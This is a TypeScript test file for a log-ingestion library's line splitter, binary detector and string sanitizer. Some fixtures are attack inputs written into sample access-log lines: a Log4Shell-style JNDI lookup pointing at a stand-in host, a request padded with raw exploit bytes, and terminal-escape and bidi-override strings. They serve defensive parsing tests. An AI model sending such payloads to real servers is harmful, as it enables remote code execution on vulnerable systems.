import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitize } from '../../lambdas/core/escape.js';
import { LineSplitter, MAX_LINE_LENGTH, looksBinary } from '../../lambdas/core/lines.js';

function split(chunks: string[], max?: number) {
  const lines: string[] = [];
  const overlong: string[] = [];
  const s = new LineSplitter(
    (l) => lines.push(l),
    (p) => overlong.push(p),
    max,
  );
  for (const c of chunks) s.push(c);
  s.end();
  return { lines, overlong, searched: s.searched };
}

/** `text` cut into chunks of `size` characters. */
function chunked(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

describe('line splitting', () => {
  it('joins lines across chunks and strips CRLF', () => {
    assert.deepEqual(split(['a\r\nb', 'c\r', '\nd']).lines, ['a', 'bc', 'd']);
  });
  it('keeps a final line without newline, and empty lines', () => {
    assert.deepEqual(split(['x\n\ny']).lines, ['x', '', 'y']);
  });
  it('reports an overlong line once, keeps none of it, and goes on', () => {
    const { lines, overlong } = split(['ok\n', 'A'.repeat(50), 'A'.repeat(50), 'A'.repeat(50), '\nnext\n'], 100);
    assert.deepEqual(lines, ['ok', 'next']);
    assert.equal(overlong.length, 1);
    assert.equal(overlong[0]?.slice(0, 3), 'AAA');
  });
  it('ends lines at a lone CR (old Mac exports), not only at LF and CRLF', () => {
    const mac = [
      '198.51.100.7 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 5',
      '198.51.100.7 - - [01/Jan/2024:00:00:01 +0000] "GET /a HTTP/1.1" 200 5',
    ];
    assert.deepEqual(split([`${mac.join('\r')}\r`]).lines, mac);
    assert.deepEqual(split(['a\rb\nc\r\nd']).lines, ['a', 'b', 'c', 'd'], 'the three endings mixed');
    assert.deepEqual(split(['a\r\rb']).lines, ['a', '', 'b'], 'two CRs are an empty line between');
  });
  it('a CRLF split across two chunks is one line ending, wherever the chunks break', () => {
    assert.deepEqual(split(['a\r', '\nb']).lines, ['a', 'b']);
    assert.deepEqual(split(['a\r', '', '\nb']).lines, ['a', 'b'], 'an empty chunk in between');
    assert.deepEqual(split(['a\r', 'b\r', '\r', '\n']).lines, ['a', 'b', '']);
  });
  it(`keeps a request with two 8 KB headers of escaped control bytes (65,622 characters); drops one over MAX_LINE_LENGTH (${MAX_LINE_LENGTH})`, () => {
    const escaped = '\\x01'.repeat(8190);
    const attack = `198.51.100.7 - - [01/Mar/2024:00:00:00 +0000] "GET /?x=\${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "${escaped}" "${escaped}"`;
    assert.ok(attack.length > 65_536);
    const kept = split([`${attack}\n`]);
    assert.deepEqual(kept.lines, [attack]);
    const over = split([`${'C'.repeat(MAX_LINE_LENGTH + 1)}\nnext\n`]);
    assert.deepEqual(over.lines, ['next']);
    assert.equal(over.overlong.length, 1);
    assert.deepEqual(
      split([`${'C'.repeat(MAX_LINE_LENGTH)}\n`]).lines.map((l) => l.length),
      [MAX_LINE_LENGTH],
    );
  });
  it('searches each character once for a line end, however many chunks a long line arrives in', () => {
    const text = `${'x'.repeat(5000)}\n${'y'.repeat(3000)}\r\n${'z'.repeat(700)}\r`;
    for (const size of [1, 7, 1024]) {
      const { lines, overlong, searched } = split(chunked(text, size));
      assert.deepEqual(
        lines.map((l) => l.length),
        [5000, 3000, 700],
      );
      assert.equal(overlong.length, 0);
      // At most once each (the LF of a CRLF split between chunks is skipped, not searched).
      // Searched again with every chunk, the first line alone would be 12.5 million characters
      // searched in chunks of one character.
      assert.ok(searched <= text.length && searched >= text.length - 1, `chunks of ${size}: ${searched}`);
    }
    const over = split(chunked(`${'C'.repeat(300)}\nok\n`, 1), 100);
    assert.deepEqual(over.lines, ['ok']);
    assert.deepEqual(over.overlong, ['C'.repeat(101)], 'what had arrived when it grew past the bound');
    assert.equal(over.searched, 304);
  });

  it('reports an overlong line that arrives in one chunk', () => {
    const { lines, overlong } = split([`${'B'.repeat(200)}\nz`], 100);
    assert.deepEqual(lines, ['z']);
    assert.equal(overlong.length, 1);
  });
});

describe('binary detection', () => {
  it('recognises a PNG and accepts text', () => {
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
    assert.ok(looksBinary(png));
    assert.ok(!looksBinary(new TextEncoder().encode('1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1\n')));
    assert.ok(!looksBinary(new TextEncoder().encode('日本語のログ\tüñí\n')));
  });

  it('keeps an access log with raw exploit bytes (NUL, control, non-UTF-8) in one request line as text', () => {
    const enc = new TextEncoder();
    const normal = (i: number) => enc.encode(`192.0.2.${i} - - [01/Jan/2024:00:00:0${i} +0000] "GET /index.html HTTP/1.1" 200 512\n`);
    const exploit = Uint8Array.from([
      ...enc.encode('198.51.100.66 - - [01/Jan/2024:00:00:05 +0000] "GET /'),
      ...Array.from({ length: 300 }, (_, i) => [0x90, 0x00, 0x01, 0xeb, 0x1f, 0xff][i % 6] as number),
      ...enc.encode(' HTTP/1.0" 400 226\n'),
    ]);
    const head = Uint8Array.from([...normal(1), ...normal(2), ...exploit, ...normal(3), ...normal(4)]);
    assert.ok(!looksBinary(head));
    assert.ok(looksBinary(Uint8Array.from([...exploit, 0x1f, 0x8b, 0x08, 0x00, 0x00])), 'a head that is mostly such bytes is binary');
  });
});

describe('escaping attacker-controlled strings', () => {
  it('neutralises terminal escapes, bidi overrides and control characters', () => {
    assert.equal(sanitize('/x\u001b]0;pwned\u0007'), '/x\\x1b]0;pwned\\x07');
    assert.equal(sanitize('a\u202eb'), 'a\\u{202e}b');
    assert.equal(sanitize('line\nbreak\r'), 'line\\x0abreak\\x0d');
    assert.equal(sanitize('back\\slash'), 'back\\\\slash', 'a literal backslash cannot forge an escape');
  });
  it('truncates with an ellipsis', () => {
    assert.equal(sanitize('x'.repeat(500), 10), `${'x'.repeat(9)}…`);
    assert.equal(sanitize('short', 10), 'short');
  });
});
